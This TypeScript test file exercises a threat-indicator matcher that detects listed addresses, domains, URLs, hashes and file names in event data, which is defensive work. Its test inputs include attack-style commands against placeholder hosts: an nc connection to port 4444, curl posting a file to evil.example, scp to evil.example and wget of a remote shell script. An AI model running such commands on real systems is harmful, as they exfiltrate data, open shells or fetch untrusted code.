import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { IndicatorSet } from "./indicator-set.ts";
import type { Entry } from "./indicator-set.ts";
import { normalizeIndicator, parseUrl, readUrl, toDomain } from "./normalize.ts";

const NOW = Date.UTC(2026, 2, 1);
const MD5 = "44d88612fea8a8f36de82e1278abb02f";

function entry(text: string, more: Partial<Entry> = {}): Entry {
  const normal = normalizeIndicator(text, more.type);
  if (!normal.ok) throw new Error(normal.message);
  return {
    id: text,
    effect: "match",
    source: "feed",
    severity: 2,
    expiresMs: undefined,
    ...more,
    type: normal.type,
    value: normal.value,
  };
}

const LISTED = [
  "203.0.113.7",
  "198.51.100.0/24",
  "2001:db8:1::/48",
  "evil.example",
  "https://files.example/a.sh",
  MD5,
  "boss@bad.example",
];
const listed = new IndicatorSet([...LISTED.map((text) => entry(text)), entry("dropper.exe", { type: "file_name" })]);
const hitsOf = (set: IndicatorSet, data: unknown, resource?: string) =>
  set.match({ data, resource }, NOW).map(({ id }) => id);

describe("E-6: an event meets an indicator", () => {
  it.each([
    ["an address", { command: "nc 203.0.113.7 4444" }, ["203.0.113.7"]],
    ["an address with a port", "connect to 203.0.113.7:443, now", ["203.0.113.7"]],
    ["an address in a URL", "curl http://203.0.113.7/x", ["203.0.113.7"]],
    ["a network", { remote: { address: "198.51.100.200" } }, ["198.51.100.0/24"]],
    ["IPv6 in brackets", "http://[2001:db8:1:2::3]:8080/", ["2001:db8:1::/48"]],
    ["IPv6 with a port", "peer [2001:db8:1::9]:443", ["2001:db8:1::/48"]],
    ["IPv4 inside IPv6", "::ffff:203.0.113.7", ["203.0.113.7"]],
    ["a domain", "dig evil.example", ["evil.example"]],
    ["a domain below", "https://a.b.EVIL.example./x?y", ["evil.example"]],
    ["a domain in an argument", "curl -d @f --url=evil.example:8443/in", ["evil.example"]],
    ["a login", "scp f root@evil.example:/tmp", ["evil.example"]],
    ["a host of another scheme", "redis://:pw@evil.example:6379/0", ["evil.example"]],
    ["an address of another scheme", "wss://[2001:db8:1::4]:9/x", ["2001:db8:1::/48"]],
    ["between the colours of a terminal", "\u001b[31mevil.example\u001b[0m", ["evil.example"]],
    ["between NULs", "\u0000203.0.113.7\u0000", ["203.0.113.7"]],
    ["a URL, also with a query", "wget 'https://files.example/a.sh?x=1'", ["https://files.example/a.sh"]],
    ["a hash", { sha: `md5:${MD5.toUpperCase()}` }, [MD5]],
    ["a hash in a name", `MD5=${MD5}`, [MD5]],
    ["an e-mail address", ["To: <Boss@Bad.example>,"], ["boss@bad.example"]],
    ["a file name", String.raw`C:\temp\Dropper.EXE /q`, ["dropper.exe"]],
    ["several, each once", "evil.example 203.0.113.7 evil.example", ["evil.example", "203.0.113.7"]],
  ])("%s", (_, data, expected) => {
    expect(hitsOf(listed, data).toSorted()).toEqual([...expected].toSorted());
  });

  it.each([
    ["notevil.example evil.example.org"],
    ["203.0.113.70 1203.0.113.7 203.0.113"],
    ["198.51.101.1"],
    [`${MD5}0 x${MD5}`],
    ["https://files.example/b.sh"],
    ["notdropper.exe dropper.exe.txt"],
    ["boss@bad.example.org"],
  ])("not: %s", (text) => {
    expect(hitsOf(listed, { text })).toEqual([]);
  });

  it("says where, with the source, and looks into the resource too", () => {
    const [hit] = listed.match({ data: { a: [{ b: "x" }] }, resource: "https://evil.example/" }, NOW);
    expect(hit).toEqual({
      id: "evil.example",
      type: "domain",
      value: "evil.example",
      source: "feed",
      severity: 2,
      path: "resource",
    });
    expect(listed.match({ data: { a: [{ b: "evil.example" }] } }, NOW)).toMatchObject([{ path: "data.a.b" }]);
  });

  it("does not report what is allowed, nor what lies on an allowed host", () => {
    const own = [entry("example.org", { effect: "allow" }), entry("10.0.0.0/8", { effect: "allow" })];
    const lists = [
      entry("www.example.org"),
      entry("10.1.2.3"),
      entry("https://example.org/x"),
      entry("a@example.org"),
      entry("evil.example"),
    ];
    const set = new IndicatorSet([...own, ...lists]);
    expect(hitsOf(set, "www.example.org 10.1.2.3 https://example.org/x a@example.org evil.example")).toEqual([
      "evil.example",
    ]);
  });

  it("does not report what has expired, and counts an expired allowance for nothing", () => {
    const set = new IndicatorSet([
      entry("evil.example", { expiresMs: NOW }),
      entry("203.0.113.7", { expiresMs: NOW + 1 }),
      entry("203.0.113.0/24", { effect: "allow", expiresMs: NOW }),
    ]);
    expect(hitsOf(set, "evil.example 203.0.113.7")).toEqual(["203.0.113.7"]);
  });

  it("takes no longer with a hundred thousand indicators, nor for hostile texts", () => {
    const many = Array.from({ length: 100_000 }, (_, at) =>
      entry(at % 2 === 0 ? `${at}.evil.example` : `10.${(at >> 16) & 255}.${(at >> 8) & 255}.${at & 255}`, {
        id: String(at),
      }),
    );
    const set = new IndicatorSet(many);
    const text =
      "the build of 2026-03-01T12:00:00Z wrote /usr/src/app/dist/index.js and asked registry.example.org:443 ".repeat(
        10,
      );
    const timeOf = (one: IndicatorSet, data: unknown) => {
      one.match({ data }, NOW);
      const before = process.cpuUsage();
      for (let round = 0; round < 200; round++) one.match({ data }, NOW);
      return process.cpuUsage(before).user / 200;
    };
    expect(timeOf(set, { text })).toBeLessThan(20 * timeOf(listed, { text }) + 1_000);
    for (const piece of ["a.", "1.", "://", "http://a", "@", "a@b.c:", "[::]:1", "/", "\\", "f".repeat(64)]) {
      const before = process.cpuUsage();
      set.match({ data: piece.repeat(Math.ceil(100_000 / piece.length)) }, NOW);
      expect([piece, process.cpuUsage(before).user < 1_500_000]).toEqual([piece, true]);
    }
  });
});

it("E-6: a URL that is plain reads as the parser reads it", () => {
  const host = fc
    .array(fc.stringMatching(/^[a-z][a-z0-9-]{0,4}$/), { minLength: 1, maxLength: 4 })
    .map((parts) => parts.join("."));
  const pathname = fc.stringMatching(/^(\/[A-Za-z0-9_.~%-]{0,3}){0,4}$/);
  const property = fc.property(fc.constantFrom("http", "https"), host, pathname, (scheme, name, rest) => {
    const text = `${scheme}://${name}${rest}`;
    const read = readUrl(text);
    expect({ ...read, isDomain: false }).toEqual({ ...parseUrl(text), isDomain: false });
    expect(read?.isDomain === true ? toDomain(read.host) : read?.host).toBe(read?.host);
  });
  fc.assert(property, { numRuns: 1_000 });
});
